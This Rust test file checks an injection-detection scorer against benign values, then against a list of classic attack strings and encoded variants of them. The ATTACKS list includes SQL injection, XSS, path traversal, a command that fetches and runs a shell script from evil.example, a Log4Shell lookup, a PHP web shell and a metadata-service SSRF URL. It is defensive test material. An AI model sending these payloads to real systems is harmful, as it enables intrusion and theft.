//! Scores: of texts that everybody knows, of the same texts in disguise, and of none.

use apisec_core::text::{Scratch, Syntax, features};

use super::{SYNTAX, look, percent_encoded, syntax};

/// What people and programs write.
const BENIGN: &[&str] = &[
    "O'Brien",
    "Maria O'Neill-D'Angelo",
    "D'Arcy & Sons",
    "maria.lopez@example.com",
    "first.last+tag@sub.example.co.uk",
    "550e8400-e29b-41d4-a716-446655440000",
    "TG9yZW0gaXBzdW0gZG9sb3Igc2l0IGFtZXQ=",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
    "2024-11-26T10:15:30+01:00",
    "26/11/2024",
    "[1, 2.5, -3, 1e6]",
    "{\"lat\": 48.85, \"lon\": 2.35}",
    "select a gift from our shop",
    "black or white shoes",
    "rock and roll, or jazz",
    "order by phone or in the shop",
    "Please update my address and delete the old one from the list.",
    "It's the driver's fault; the box wasn't damaged.",
    "He said \"yes\" and \"no\" in the same letter",
    "if you like, sleep (well) and wake up",
    "insert coin into the slot",
    "cat & dog food",
    "id;name;date",
    "sort=-created,+name",
    "50% off, R&D, C++ & C#",
    "Calle Mayor, 12, 3\u{ba} izq.",
    "\u{41f}\u{440}\u{438}\u{432}\u{435}\u{442}, \u{43a}\u{430}\u{43a} \u{434}\u{435}\u{43b}\u{430}?",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "https://shop.example.com/items?id=7&lang=en",
];

/// Texts that were never meant as a value.
pub const ATTACKS: &[&str] = &[
    "' or 1=1--",
    "1' or '1'='1",
    "\" or \"a\"=\"a",
    "1) or (1=1",
    "admin'-- ",
    "1 union select null,null,version()--",
    "1' UNION ALL SELECT user,password FROM users#",
    "1; drop table users",
    "'; exec xp_cmdshell('dir')--",
    "1 waitfor delay '0:0:5'--",
    "(select(0)from(select(sleep(15)))v)",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "<svg/onload=alert(document.cookie)>",
    "javascript:alert(1)",
    "' onmouseover='alert(1)",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "; cat /etc/passwd",
    "`id`",
    "$(whoami)",
    "; curl http://evil.example/x.sh | sh",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "<%= 7*7 %>",
    "en\r\nSet-Cookie: a=b",
    "*)(uid=*))(|(uid=*",
    "{\"$ne\": null}",
    "<?php system($_GET['c']); ?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>",
    "__import__('os').system('id')",
    "() { :;}; /bin/bash -c \"id\"",
    "rO0ABXNyABdqYXZh",
    "http://169.254.169.254/latest/meta-data",
];

fn scores(texts: &[&str]) -> Vec<(u8, String)> {
    let (syntax, mut scratch) = (syntax(), Scratch::default());
    let mut score = |text: &&str| {
        let seen = features(text.as_bytes(), false, false, &syntax, &mut scratch);
        let family = syntax.family(seen.family).unwrap_or("-");
        (seen.syntax, format!("{:3} {family:<9} {text}", seen.syntax))
    };
    texts.iter().map(&mut score).collect()
}

fn table(scores: &[(u8, String)]) -> String {
    let lines: Vec<_> = scores.iter().map(|(_, line)| line.as_str()).collect();
    lines.join("\n")
}

#[test]
fn ordinary_texts_stay_below_8() {
    let scores = scores(BENIGN);
    assert!(scores.iter().all(|(u, _)| *u < 8), "\n{}", table(&scores));
}

#[test]
fn classic_attacks_reach_8() {
    let scores = scores(ATTACKS);
    assert!(scores.iter().all(|(u, _)| *u >= 8), "\n{}", table(&scores));
}

#[test]
fn capitals_lower_no_score() {
    for text in ATTACKS {
        let capitals = text.to_ascii_uppercase();
        assert!(
            look(capitals.as_bytes()).syntax >= look(text.as_bytes()).syntax,
            "{text}"
        );
    }
}

#[test]
fn up_to_three_layers_of_encoding_lower_no_score() {
    for text in ATTACKS {
        let (mut encoded, mut last) = (text.as_bytes().to_vec(), look(text.as_bytes()).syntax);
        for layers in 1..=3 {
            encoded = percent_encoded(&encoded);
            let score = look(&encoded).syntax;
            assert!(
                score >= last,
                "{text}: {last}, with {layers} layers {score}"
            );
            last = score;
        }
    }
}

#[test]
fn overlong_and_full_width_letters_read_as_the_letters() {
    let plain = look(b"1 union select 2").syntax;
    let full_width = "1 \u{ff35}\u{ff2e}\u{ff29}\u{ff2f}\u{ff2e} \u{ff53}elect 2";
    for text in [full_width.as_bytes(), b"1 %c1%95nion %c1%b3elect 2"] {
        assert!(look(text).syntax >= plain, "{}", text.escape_ascii());
    }
}

#[test]
fn an_apostrophe_in_a_name_is_no_open_quote() {
    assert_eq!(look(b"O'Brien").syntax, 0);
    assert!(look(b"O Brien'").syntax > 0);
}

/// The shipped syntax with one thing replaced.
fn refused(from: &str, to: &str) -> String {
    let json = SYNTAX.replacen(from, to, 1);
    assert_ne!(json, SYNTAX, "nothing to replace");
    Syntax::from_json(&json).expect_err("refused").to_string()
}

#[test]
fn a_wrong_syntax_is_refused_with_what_is_wrong() {
    let literal = r#"{"text": "information_schema", "family": "sql", "weight": 8}"#;
    for (from, to, what) in [
        (
            literal,
            r#"{"text": "", "family": "sql", "weight": 8}"#,
            "an empty literal",
        ),
        (
            literal,
            r#"{"text": "A", "family": "sql", "weight": 8}"#,
            "literal \"A\" is not in lower case",
        ),
        (
            literal,
            r#"{"text": "/*!", "family": "sql", "weight": 8}"#,
            "literal \"/*!\" twice",
        ),
        (
            literal,
            r#"{"text": "a", "family": "sqk", "weight": 8}"#,
            "\"a\": \"sqk\" is no family",
        ),
        (
            literal,
            r#"{"text": "a", "family": "sql", "weight": 17}"#,
            "\"a\": a weight of 17; at most 16",
        ),
        (
            literal,
            r#"{"text": "a", "family": "sql", "wait": 8}"#,
            "unknown field `wait`",
        ),
        (
            r#""families": ["sql", "#,
            r#""families": ["sql", "sql", "#,
            "family \"sql\" twice",
        ),
        (
            r#""select": ["select"]"#,
            r#""select": ["or"]"#,
            "word \"or\" twice",
        ),
        (
            r#""select": ["select"]"#,
            r#""select": ["se lect"]"#,
            "\"se lect\" is not a word",
        ),
        (
            r#""verbs": ["delete"]"#,
            r#""verbs": ["erase"]"#,
            "a pair's \"erase\" is no verb",
        ),
        (
            r#""tag": {"family": "markup", "weight": 3}, "#,
            "",
            "Tag has no rule",
        ),
        (r#""tag": "#, r#""tug": "#, "unknown variant `tug`"),
        (
            r#"{"families""#,
            r#"{"version": 1, "families""#,
            "unknown field `version`",
        ),
    ] {
        let error = refused(from, to);
        assert!(error.contains(what), "{error}; expected {what}");
    }
}
